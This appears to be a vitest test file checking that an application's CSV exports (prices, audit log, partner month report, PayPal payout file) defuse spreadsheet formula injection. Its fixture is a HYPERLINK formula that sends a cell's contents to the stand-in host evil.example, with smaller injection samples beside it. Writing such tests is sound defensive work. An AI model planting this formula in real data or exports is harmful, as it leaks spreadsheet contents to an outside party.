/**
 * Every CSV the code base writes, each with a value a spreadsheet would run as a formula (issue 27
 * item 10, decision 0067): the price export (a device named `=HYPERLINK(…)` through the catalog
 * editor), the audit export, the partner portal's month report (a store of that name) and the
 * PayPal payout file. Each comes from the one writer (core/shared/csv.ts): the cell starts with a
 * quote, the export still reads back, and numbers (ids, prices, counts, amounts) stay numbers.
 */
import { sql } from "drizzle-orm";
import { parse } from "csv-parse/sync";
import { beforeAll, expect, it } from "vitest";
import { recordAudit } from "../../core/audit/index.server.ts";
import { monthReportCsv } from "../../core/partner-users/index.ts";
import { createStoreTrade, monthReport, scopeOf } from "../../core/partner-users/index.server.ts";
import { rows } from "../../core/shared/index.server.ts";
import { describeEachDatabase } from "../../tests/helpers/databases.ts";
import { BACKOFFICE, bearer, makeStaff, staffTokens } from "../../tests/helpers/staff.ts";
import { placeTestTrade, smartphoneOffer, toPayoutPending, uniqueTradeEmail } from "../../tests/helpers/trades.ts";
import { sealingOf, storeClerk, walkInTrade } from "../../tests/helpers/store-trades.ts";

const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Preis")';
let seq = 0;

/** The cells of a CSV text (RFC 4180, as a spreadsheet splits it). */
const cellsOf = (text: string, delimiter = ",") =>
  parse(text.replace(/^\ufeff/, ""), { delimiter, relax_column_count: true }) as string[][];

describeEachDatabase("CSV exports and spreadsheet formulas", (ctx) => {
  let catalog: string;
  let admin: string;
  let payoutA: string;
  const bo = (path: string, token: string, init: { method?: string; json?: unknown } = {}) =>
    ctx().request(`/api/backoffice${path}`, {
      host: BACKOFFICE,
      method: init.method ?? (init.json === undefined ? "GET" : "POST"),
      ...(init.json === undefined ? {} : { json: init.json }),
      headers: bearer(token),
    });

  beforeAll(async () => {
    catalog = (await staffTokens(ctx(), await makeStaff(ctx(), ["catalog"]))).accessToken;
    admin = (await staffTokens(ctx(), await makeStaff(ctx(), ["admin"]))).accessToken;
    payoutA = (await staffTokens(ctx(), await makeStaff(ctx(), ["payout"]))).accessToken;
  });

  it("the price export writes a device named like a formula as text, its id and price as numbers, and imports again unchanged", async () => {
    const [device] = await rows<{ id: number; cents: number }>(
      ctx().database.db,
      sql`select d.id, p.base_price_cents as cents from devices d join device_prices p on p.device_id = d.id and p.edition = 'de' order by d.id limit 1`,
    );
    const renamed = await bo(`/catalog/devices/${device!.id}`, catalog, { method: "PATCH", json: { name: FORMULA } });
    expect(renamed.status).toBe(200);

    const res = await bo("/prices/export?edition=de", catalog);
    expect(res.status).toBe(200);
    const text = await res.text();
    const line = cellsOf(text).find((cells) => cells[0] === String(device!.id))!;
    expect(line[2]).toBe(`'${FORMULA}`);
    expect(line[4]).toBe(`${Math.trunc(device!.cents / 100)}.${String(device!.cents % 100).padStart(2, "0")}`);
    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);

    const again = await ctx().request("/api/backoffice/prices/imports?edition=de", {
      host: BACKOFFICE,
      method: "POST",
      body: text,
      headers: { ...bearer(catalog), "content-type": "text/csv" },
    });
    expect(again.status).toBe(201);
    expect(((await again.json()) as { counts: Record<string, number> }).counts).toMatchObject({
      changed: 0,
      new: 0,
      rejected: 0,
      unknown: 0,
    });
  });

  it("the audit export writes such a target and value as text; a number stays a number", async () => {
    const action = `test.formula.${++seq}`;
    await recordAudit(ctx().database.db, {
      at: new Date(),
      staffId: null,
      staffEmail: "+staff@staff.example",
      action,
      target: FORMULA,
      before: -5,
      after: "@SUM(A1:A9)",
    });
    const res = await bo(`/audit?format=csv&action=${action}`, admin);
    expect(res.status).toBe(200);
    const [header, entry, ...rest] = cellsOf(await res.text());
    expect(header).toEqual(["id", "at", "staff_id", "staff_email", "action", "target", "before", "after"]);
    expect(rest).toEqual([]);
    expect(entry!.slice(3)).toEqual(["'+staff@staff.example", action, `'${FORMULA}`, "-5", "'@SUM(A1:A9)"]);
  });

  it("the partner portal's month report writes a store named like a formula as text, its counts and euros as numbers", async () => {
    const db = ctx().database.db;
    const now = new Date();
    const { context } = await storeClerk(ctx(), "Kette Formel", FORMULA);
    const { offerId } = await smartphoneOffer(ctx());
    await createStoreTrade(db, context, walkInTrade(offerId, "Wanda", "Laufkundin", "wanda@example.com"), now, sealingOf(ctx()));

    const month = now.toLocaleDateString("sv-SE", { timeZone: "Europe/Berlin" }).slice(0, 7);
    const report = await monthReport(db, scopeOf(context.user), month);
    const text = monthReportCsv(month, report);
    expect(text.startsWith("\ufeffMonat;Filiale;")).toBe(true);
    const [, storeRow, total] = cellsOf(text, ";");
    expect(storeRow!.slice(0, 3)).toEqual([month, `'${FORMULA}`, "1"]);
    expect(storeRow![3]).toMatch(/^\d+,\d{2}$/);
    expect(total!.slice(0, 3)).toEqual([month, "Summe", "1"]);
  });

  it("the PayPal file never carries a cell a spreadsheet would run: such an address is left out of the run, listed, and the file has the others", async () => {
    const placed: string[] = [];
    for (let i = 0; i < 2; i++) {
      const { tradeNumber } = await placeTestTrade(ctx(), { paypal: true, email: uniqueTradeEmail("formel") });
      await toPayoutPending(ctx(), tradeNumber);
      placed.push(tradeNumber);
    }
    // as a trade placed before the rule may hold it
    await ctx().database.db.execute(sql`update trades set paypal_email = '-2+3@paypal.example' where trade_number = ${placed[0]!}`);
    const made = await bo("/payout-runs", payoutA, { json: { edition: "de", method: "paypal" } });
    expect(made.status).toBe(201);
    const run = (await made.json()) as { runId: number; invalidAccounts: { tradeNumber: string }[] };
    expect(run.invalidAccounts.map((i) => i.tradeNumber)).toEqual([placed[0]]);
    const csv = await (await bo(`/payout-runs/${run.runId}/paypal.csv`, payoutA)).text();
    const cells = cellsOf(csv);
    expect(cells.map((c) => c[3])).toEqual([placed[1]]);
    expect(cells[0]![1]).toMatch(/^\d+\.\d{2}$/);
    for (const cell of cells.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r']/);
  });
});
